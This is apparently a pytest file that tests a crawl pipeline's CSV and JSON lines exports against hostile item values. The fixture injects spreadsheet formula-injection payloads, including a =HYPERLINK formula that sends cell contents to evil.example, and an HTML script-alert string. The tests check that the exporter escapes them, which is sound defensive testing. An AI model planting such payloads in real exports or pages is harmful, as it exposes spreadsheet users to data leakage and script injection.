"""Hostile item values through a real crawl tick and ExportItems: CSV and JSON lines give back what was parsed.

A parse hook (it can return anything, unlike CSS fields, whose text is
collapsed) gives every item formulas, HTML, line breaks of every kind,
non-ASCII, U+2028, quotes and separators, numbers, a boolean, None and
nested JSON. The tick is crawled from the demo site through a real luigid;
the exports are read back with the csv and json modules.
"""

from __future__ import annotations

import json
from collections.abc import Iterator

import pytest

from pipelines.workflows.tables import FORMULA_STARTS
from tests.conftest import DemoSite, Luigid, start_demo_site, stop
from tests.workflows.support import TICK, TICK_DIR, read_csv, run_luigi, runs, value_of

HOSTILE = {
    "formula": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "plus": "+1+2",
    "minus": "-2+3",
    "at_sign": "@SUM(A1:A9)",
    "tab": "\t=1+1",
    "carriage": "\r=1+1",
    "quoted": "'already quoted",
    "html": "<script>alert('x')</script><b>&amp; &lt;</b>",
    "lines": "one\ntwo\r\nthree\rfour",
    "unicode": "naïve 日本語 🙂 Ünïcödé",
    "separators": "a\u2028b\u2029c",
    "delimiters": 'a,b;c "d" \'e\'',
    "negative": -5,
    "fraction": 12.5,
    "flag": True,
    "nothing": None,
    "nested": {"k": ["=1", {"x": "line\nbreak"}], "é": 1},
}

HOOK = f'''
HOSTILE = {HOSTILE!r}


def parse(page):
    title = page.selector.css("h1::text").get()
    if title is None:
        return None
    return {{"title": title, **HOSTILE}}
'''


@pytest.fixture(scope="module")
def hostile_tick(luigid: Luigid) -> Iterator[tuple[Luigid, DemoSite]]:
    shop = start_demo_site(5)
    (luigid.spec_dir / "hostile_hooks.py").write_text(HOOK, encoding="utf-8")
    spec = luigid.write_spec("hostile", shop.url)
    text = spec.read_text()
    head, _, _ = text.partition("\n[fields.")  # the hook replaces the spec's fields
    spec.write_text(head.replace('key = "upc"', 'key = "url"\nparse_hook = "hostile_hooks:parse"') + "\n")
    for fmt in ("csv", "jsonl"):
        result = run_luigi(luigid, shop, "pipelines.workflows.export", "ExportItems",
                           "--crawl", "hostile", "--at", TICK, "--format", fmt)
        assert result.returncode == 0, result.stderr[-4000:]
    yield luigid, shop
    stop(shop.proc)


def test_csv_cells_give_back_every_hostile_value(hostile_tick: tuple[Luigid, DemoSite]) -> None:
    luigid, shop = hostile_tick
    header, rows = read_csv(luigid.data_dir / "exports" / "hostile" / TICK_DIR / "items.csv")
    assert header == ["_key", "_url", *sorted(["title", *HOSTILE])]  # a hook's fields: sorted
    assert len(rows) == 5
    for row in rows:
        assert row["_key"] == row["_url"] and row["_url"].startswith(f"{shop.url}catalogue/product-")
        for name, value in HOSTILE.items():
            assert value_of(row[name], value) == value, name


def test_no_csv_cell_starts_like_a_formula(hostile_tick: tuple[Luigid, DemoSite]) -> None:
    luigid, _ = hostile_tick
    _, rows = read_csv(luigid.data_dir / "exports" / "hostile" / TICK_DIR / "items.csv")
    for row in rows:
        for name, cell in row.items():
            if name == "negative":
                assert cell == "-5"  # a number stays a number a spreadsheet can add up
                continue
            assert not cell.startswith(FORMULA_STARTS[:-1]), (name, cell)
        assert row["formula"] == "'" + HOSTILE["formula"]
        assert row["quoted"] == "''already quoted"  # so one leading quote is always the escape


def test_jsonl_lines_give_back_every_value_with_its_type(hostile_tick: tuple[Luigid, DemoSite]) -> None:
    luigid, shop = hostile_tick
    raw = (luigid.data_dir / "exports" / "hostile" / TICK_DIR / "items.jsonl").read_bytes()
    text = raw.decode("utf-8")
    assert "日本語" in text  # UTF-8, not \\u escapes
    lines = text.splitlines()  # splits on U+2028 too: the export escapes it
    assert len(lines) == 5 == raw.count(b"\n")
    for line in lines:
        record = json.loads(line)
        assert set(record) == {"key", "url", "fields"}
        title = record["fields"].pop("title")
        assert title.startswith("The ") and record["fields"] == HOSTILE


def test_the_export_run_records_rows_and_size(hostile_tick: tuple[Luigid, DemoSite]) -> None:
    luigid, _ = hostile_tick
    records = runs(luigid, family="ExportItems", crawl="hostile")
    assert [(r["stats"]["format"], r["stats"]["rows"]) for r in records] == [("csv", 5), ("jsonl", 5)]
    for record in records:
        path = luigid.data_dir / "exports" / "hostile" / TICK_DIR / f"items.{record['stats']['format']}"
        assert record["stats"]["bytes"] == path.stat().st_size
